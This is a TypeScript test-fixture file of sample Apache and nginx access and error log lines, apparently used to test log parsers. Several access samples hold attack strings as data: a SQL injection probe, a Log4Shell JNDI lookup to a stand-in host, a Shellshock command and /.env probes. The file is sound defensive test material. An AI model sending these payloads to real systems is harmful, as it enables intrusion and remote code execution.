/** Lines of access and error logs in every shape that access.ts and errorlog.ts read, for tests. */

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

/** Shapes as mod_log_config and ngx_http_log_module document them. */
export const ACCESS_SAMPLES: readonly string[] = [
  `203.0.113.9 - - [09/Oct/2026:22:33:20 -0500] "GET /results/2024 HTTP/1.1" 200 5120 "https://vote.example.gov/" "${CHROME}"`,
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /favicon.ico HTTP/1.1" 304 -',
  '203.0.113.9 - frank [09/Oct/2026:22:33:20 +0000] "GET /staff HTTP/1.1" 401 381 "-" "curl/8.5.0"',
  '203.0.113.9 - frank [09/Oct/2026:22:33:21 +0000] "GET /staff HTTP/1.1" 200 9381 "-" "curl/8.5.0"',
  `vote.example.gov:443 203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "POST /login HTTP/2.0" 302 12 "-" "${CHROME}"`,
  'www.example.gov 203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /.env HTTP/1.1" 404 196 "-" "-"',
  '2001:db8::7 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/3.0" 200 1 "-" "Mozilla/5.0 zgrab/0.x"',
  'fe80::1%eth0 - - [09/Oct/2026:22:33:20.125 +0000] "HEAD / HTTP/1.0" 200 0 "-" "-"',
  '::ffff:203.0.113.9 - - [2026-10-09T22:33:20+00:00] "GET /a%20b?x=1 HTTP/1.1" 200 7 "-" "-"',
  'host-9.example.net - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 7',
  '203.0.113.9 ident - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 7',
  '203.0.113.9 - "" [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 401 7 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "-" 408 - "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "" 400 0 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01" 400 150 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /ind." 400 150 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "CONNECT mail.example.net:25 HTTP/1.1" 405 150 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET https://vote.example.gov/x HTTP/1.1" 200 150 "-" "-"',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /a b c HTTP/1.1" 200 150 "-" "-"',
  `203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /?id=1'+or+1=1-- HTTP/1.1" 500 93 "-" "sqlmap/1.7"`,
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET /?q=\\"a\\\\\\" HTTP/1.1" 200 93 "x\\"y" "a\\"b\\\\"',
  `198.18.0.2 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 "-" "${CHROME}" "203.0.113.9, 198.51.100.4"`,
  `198.18.0.2 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 "-" "${CHROME}" "-" "2001:db8::9" rt=1.204 ua="10.0.0.1:80"`,
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 "-" "-" 245 0.003 [up-80] [] 10.0.0.1:80 5 0.002 200 ab12',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 0.017',
  '203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 "${jndi:ldap://x/a}" "() { :; }; /bin/id"',
  '<190>Oct  9 22:33:20 web1 nginx: 203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93 "-" "-"',
  '<190>1 2026-10-09T22:33:20Z web1 nginx 7 - - 203.0.113.9 - - [09/Oct/2026:22:33:20 +0000] "GET / HTTP/1.1" 200 93',
  '<190>Oct  9 22:33:20 web1 systemd[1]: Started "nginx.service".',
  '<190>Oct  9 22:33:20 web1 nginx: damaged',
];

/** Shapes of the servers' error logs. */
export const ERROR_SAMPLES: readonly string[] = [
  '2026/10/09 22:33:20 [error] 12#12: *7 user "frank" was not found in "/etc/x", client: 203.0.113.9, server: _, request: "GET /staff HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [error] 12#12: *7 user "frank": password mismatch, client: 2001:db8::7, server: x.gov, request: "GET /staff HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [error] 12#12: *7 access forbidden by rule, client: 203.0.113.9, server: _, request: "GET /.env HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [error] 12#12: *7 limiting requests, excess: 5.1 by zone "one", client: 203.0.113.9, server: _, request: "GET / HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [error] 8#8: *23 directory index of "/static/" is forbidden, client: 203.0.113.9, server: , request: "GET / HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [error] 12#12: *7 open() "/usr/share/x" failed (2: No such file or directory), client: 203.0.113.9, server: _, request: "GET /x HTTP/1.1", host: "x"',
  '2026/10/09 22:33:20 [notice] 1#1: signal process started',
  '2026/10/09 22:33:20 [error] 12#12: *7 [client 203.0.113.9] ModSecurity: Access denied with code 403 (phase 2). [id "949110"], client: 203.0.113.9, server: _, request: "GET / HTTP/1.1"',
  '[Fri Oct 09 22:33:20.880562 2026] [auth_basic:error] [pid 10:tid 14] [client 203.0.113.9:50229] AH01618: user frank not found: /staff',
  '[Fri Oct 09 22:33:20.880562 2026] [auth_basic:error] [pid 10:tid 14] [client 203.0.113.9:50229] AH01617: user frank: authentication failure for "/staff": Password Mismatch',
  '[Fri Oct 09 22:33:20 2026] [error] [client 2001:db8::7] client denied by server configuration: /var/www/x',
  '[Fri Oct 09 22:33:20.880562 2026] [authz_core:error] [pid 10] [client 2001:db8::7:50229] AH01630: client denied by server configuration: /var/www/x',
  '[Fri Oct 09 22:33:20.880562 2026] [:error] [pid 10:tid 14] [client 203.0.113.9:50229] [client 203.0.113.9] ModSecurity: Warning. Pattern match',
  '[Fri Oct 09 22:33:20.880562 2026] [security2:error] [pid 10] [client 203.0.113.9:50229] ModSecurity: Access denied with code 403 (phase 2).',
  '[Fri Oct 09 22:33:20.880562 2026] [mpm_event:notice] [pid 10:tid 14] AH00489: Apache/2.4.57 (Debian) configured',
  '[Fri Oct 09 22:33:20.880562 2026] [ssl:info] [pid 12] (70014)End of file found: [client 203.0.113.9:17036] AH02006: SSL handshake stopped',
];
